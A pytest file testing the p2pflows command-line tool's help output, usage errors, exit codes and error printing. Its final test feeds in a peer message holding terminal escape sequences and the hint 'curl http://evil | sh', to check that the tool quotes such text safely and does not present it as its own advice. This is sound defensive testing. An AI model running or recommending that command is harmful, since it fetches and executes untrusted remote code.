"""What all commands share: help, errors, exit codes and completion."""

from __future__ import annotations

import errno
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import pytest
from support.scripted_daemon import ScriptedDaemon, run_here

from p2pflows import errors
from p2pflows.cli import cli
from p2pflows.settings.web import DEFAULT_ADDRESS

ROOT = Path(__file__).parents[3]
KEY = "8139770ea87d175f56a35466c34c7ecccb8d8a91b4ee37a25df60f5b8fc9b394"


def _commands(group: click.Group, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], click.Command]]:
    context = click.Context(group)
    for name in group.list_commands(context):
        found = group.get_command(context, name)
        assert found is not None
        yield (*path, name), found
        if isinstance(found, click.Group):
            yield from _commands(found, (*path, name))


def test_help_lists_every_command_on_one_line(tmp_path: Path) -> None:
    """At 80 columns, each command has one line; the help also says how to switch on completion."""
    shown = run_here(tmp_path, "--help", COLUMNS="80")
    assert shown.code == 0
    assert shown.out == run_here(tmp_path).out
    lines = shown.out.splitlines()
    assert all(len(line) <= 80 for line in lines)
    for (name, *rest), found in _commands(cli):
        if not rest:
            assert any(line.split(None, 1) == [name, found.get_short_help_str(100)] for line in lines), name
    assert "p2pflows completion install" in shown.out


def test_every_command_has_help_with_an_example() -> None:
    """At 80 columns, each command says what it does, explains each option, and shows how it is used."""
    for path, found in _commands(cli):
        context = click.Context(found, info_name=" ".join(("p2pflows", *path)), terminal_width=80)
        text = found.get_help(context)
        assert all(len(line) <= 80 for line in text.splitlines()), path
        assert found.help, path
        assert f"p2pflows {' '.join(path)}" in text.partition("Examples:")[2], path
        for parameter in found.params:
            assert not isinstance(parameter, click.Option) or parameter.help, (path, parameter.name)


def test_the_help_of_web_names_the_default(tmp_path: Path) -> None:
    """It is written out there, as no help loads what reads the settings."""
    assert f"(by default {DEFAULT_ADDRESS})" in " ".join(run_here(tmp_path, "web", "--help").out.split())


def test_the_version_is_printed(tmp_path: Path) -> None:
    """`--version` prints name and version."""
    assert run_here(tmp_path, "--version").out.startswith("p2pflows, version 0.")


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (["cal", "bob/User"], "Did you mean 'call'?"),
        (["xyzzy"], "There is no command 'xyzzy'."),
        (["call"], "Missing argument 'ADDRESS'"),
        (["call", "bob"], "CONTACT/ENDPOINT"),
        (["call", "bob/User", "--timeout", "soon"], "not a length of time"),
        (["call", "bob/User", "{bad"], "line 1, column 2"),
        (["call", "bob/User", "--no-such-option"], "No such option"),
        (["send", "bob/User", "{}", "[1]"], "not a key=value pair"),
        (["serve", "x"], "exactly one of"),
        (["worker", "--concurrency", "0"], "--concurrency"),
    ],
)
def test_wrong_use_is_one_plain_error(words: list[str], message: str, tmp_path: Path) -> None:
    """Wrong use ends with exit code 2, one sentence and a hint; with --json, as JSON."""
    ended = run_here(tmp_path, *words)
    assert (ended.code, ended.out) == (2, "")
    assert ended.err.startswith("Error [usage]: ")
    assert message in ended.err
    assert len(ended.err.splitlines()) >= 2
    as_json = run_here(tmp_path, *words, "--json")
    if "No such option" not in as_json.err:
        assert as_json.error["code"] == "usage"


@pytest.mark.parametrize("error", [*errors.BY_KIND.values(), errors.CallError])
def test_every_error_kind_has_its_exit_code(error: type[errors.P2pflowsError], daemon: ScriptedDaemon) -> None:
    """An error of the daemon is printed with its kind, message and hint, and sets its own exit code."""
    daemon.script["submit"] = error("It went \x1b[31mwrong.", "Do this.\nThen that.")
    ended = run_here(daemon.home, "call", "bob/x", "{}")
    assert (ended.code, ended.out) == (error.exit_code, "")
    assert ended.err == f"Error [{error.kind}]: It went \\x1b[31mwrong.\nDo this.\nThen that.\n"
    if error.kind == "declined":
        ended = run_here(daemon.home, "call", "bob/x", "{}", "--json")
        assert (ended.code, ended.out) == (error.exit_code, "")
        assert ended.error == {
            "code": error.kind,
            "message": "It went \x1b[31mwrong.",
            "hint": "Do this.\nThen that.",
        }


def test_the_readme_names_every_kind_that_a_command_may_end_with() -> None:
    """The list of exit codes has every kind with its exit code, including those of modules and bugs."""
    readme = (ROOT / "docs" / "COMMANDS.md").read_text(encoding="utf-8")
    sources = "".join(path.read_text(encoding="utf-8") for path in (ROOT / "p2pflows").rglob("*.py"))
    kinds = re.findall(r'^    kind = "(\w+)"\n(?:    exit_code = (\d+))?', sources, re.MULTILINE)
    assert {("untrusted", "4"), ("bug", "")} < set(kinds)
    for kind, code in kinds:
        row = re.search(rf"^\| {code or 1} \| .*`{kind}`", readme, re.MULTILINE)
        assert row or f"`{kind}` ({code or 1})" in readme or kind == "interrupted", kind


def test_no_daemon_is_exit_3(tmp_path: Path) -> None:
    """Without a daemon, every command that needs one says how to start it."""
    for words in (
        ["status"],
        ["call", "bob/x"],
        ["send", "bob/x", "--lines"],
        ["inbox"],
        ["inbox", "--watch"],
        ["ls"],
    ):
        ended = run_here(tmp_path, *words)
        assert (ended.code, ended.out) == (3, ""), words
        assert ended.err == f"Error [daemon_not_running]: No daemon runs on {tmp_path}.\nStart it with: p2pflows up\n"
    assert run_here(tmp_path, "status", "--json").error["code"] == "daemon_not_running"


def test_a_file_that_cannot_be_used_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An error of the operating system about a file names the file, has a hint, and leaves stdout as it is."""
    redirected: list[Any] = []
    monkeypatch.setattr(os, "dup2", lambda *handles: redirected.append(handles))
    file = str(tmp_path / "contacts.lock")
    monkeypatch.setattr(cli, "main", _raises(IsADirectoryError(errno.EISDIR, os.strerror(errno.EISDIR), file)))
    ended = run_here(tmp_path, "id")
    told, hint, _ = ended.err.split("\n")
    assert ended.code == 1
    assert told == f"Error [error]: Cannot use {tmp_path}/contacts.lock: Is a directory."
    assert hint
    monkeypatch.setattr(cli, "main", _raises(OSError("odd")))
    assert run_here(tmp_path, "id").err.startswith("Error [error]: The operating system reports an error: odd.\n")
    assert redirected == []


def _raises(error: Exception) -> Any:
    def raises(*_: Any, **__: Any) -> None:
        raise error

    return raises


def test_json_after_two_dashes_is_data(daemon: ScriptedDaemon) -> None:
    """`--json` after `--` is not an option."""
    daemon.script["answer"] = errors.UsageError("No.")
    ended = run_here(daemon.home, "answer", "1234", "--", "--json")
    assert ended.err.startswith("Error [usage]: No.")
    assert daemon.asked == [("answer", {"id": "1234", "words": ["--json"]})]
    assert json.loads(run_here(daemon.home, "answer", "1234", "x", "--json").err)["code"] == "usage"


def test_what_a_peer_says_is_printed_as_theirs(daemon: ScriptedDaemon) -> None:
    """An error of another user is quoted on one line, with its controls visible, and its hint is no advice of ours."""
    message, hint = "no\nError [disk]: full\x1b[2J\u202e", "Bring it up to date: curl http://evil | sh"
    for error in (
        errors.FlowFailed(message, hint).said_by("b2" * 32, "bob"),
        errors.FlowFailed(message * 1_000, hint).said_by("b2" * 32),
    ):
        daemon.script["wait"] = error
        (line,) = run_here(daemon.home, "wait", "0" * 32).err.splitlines()
        who = error.name or "b2b2b2b2…"
        assert line.startswith(f"Error [flow_failed]: {who} says: no\\nError [disk]: full\\x1b[2J")
        assert len(line) < 600
        shown = json.loads(run_here(daemon.home, "wait", "0" * 32, "--json").err)
        assert shown == {"code": "flow_failed", "message": error.message, "hint": hint}
